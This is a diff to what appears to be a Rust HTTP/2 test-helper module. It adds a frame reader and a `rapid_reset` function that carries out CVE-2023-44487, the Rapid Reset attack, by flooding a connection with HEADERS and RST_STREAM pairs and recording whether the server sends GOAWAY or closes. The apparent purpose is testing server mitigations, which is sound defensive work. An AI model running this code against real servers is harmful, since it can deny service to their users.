@@ -1,6 +1,10 @@
 //! Hand-made HTTP/2: frames and HPACK literals written byte for byte, so a
 //! test says exactly what it sends, and a reader for what comes back.
 
+use std::time::Duration;
+
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
+
 /// Frame types (RFC 9113 §6).
 pub const DATA: u8 = 0x0;
 pub const HEADERS: u8 = 0x1;
@@ -125,4 +129,80 @@ pub fn take_frames(buf: &mut Vec<u8>) -> Vec<Frame> {
     }
     buf.drain(..at);
     frames
+}
+
+/// Reads frames until the server closes the connection or `wait` passes;
+/// returns the frames and whether the connection was closed.
+pub async fn frames_until_closed<R: AsyncRead + Unpin>(
+    rd: &mut R,
+    wait: Duration,
+) -> (Vec<Frame>, bool) {
+    let deadline = tokio::time::Instant::now() + wait;
+    let (mut buf, mut frames, mut chunk) = (Vec::new(), Vec::new(), vec![0u8; 16 * 1024]);
+    loop {
+        match tokio::time::timeout_at(deadline, rd.read(&mut chunk)).await {
+            Err(_) => return (frames, false),
+            Ok(Ok(0)) | Ok(Err(_)) => return (frames, true),
+            Ok(Ok(n)) => {
+                buf.extend_from_slice(&chunk[..n]);
+                frames.extend(take_frames(&mut buf));
+            }
+        }
+    }
+}
+
+/// What a rapid reset got back.
+#[derive(Debug)]
+pub struct RapidReset {
+    /// The frames the server sent.
+    pub frames: Vec<Frame>,
+    /// Whether the server closed the connection (within 60 s).
+    pub closed: bool,
+    /// HEADERS + RST_STREAM pairs written before a write failed.
+    pub sent: u32,
+}
+
+impl RapidReset {
+    pub fn goaway(&self) -> Option<&Frame> {
+        self.frames.iter().find(|f| f.kind == GOAWAY)
+    }
+}
+
+/// CVE-2023-44487 on `io` (an h2 connection, preface not sent yet):
+/// `streams` times a complete `GET path` on a new stream, cancelled at once
+/// with RST_STREAM, written 100 pairs at a time.
+pub async fn rapid_reset<IO>(io: IO, authority: &str, path: &str, streams: u32) -> RapidReset
+where
+    IO: AsyncRead + AsyncWrite + Send + 'static,
+{
+    let (mut rd, mut wr) = tokio::io::split(io);
+    let watch =
+        tokio::spawn(async move { frames_until_closed(&mut rd, Duration::from_secs(60)).await });
+    let headers = block(&[
+        (":method", "GET"),
+        (":scheme", "https"),
+        (":authority", authority),
+        (":path", path),
+    ]);
+    let mut sent = 0;
+    if wr.write_all(&preface()).await.is_ok() {
+        while sent < streams {
+            let mut batch = Vec::new();
+            for i in sent..sent + 100 {
+                let id = 2 * i + 1;
+                batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &headers));
+                batch.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
+            }
+            if wr.write_all(&batch).await.is_err() || wr.flush().await.is_err() {
+                break;
+            }
+            sent += 100;
+        }
+    }
+    let (frames, closed) = watch.await.unwrap();
+    RapidReset {
+        frames,
+        closed,
+        sent,
+    }
 }
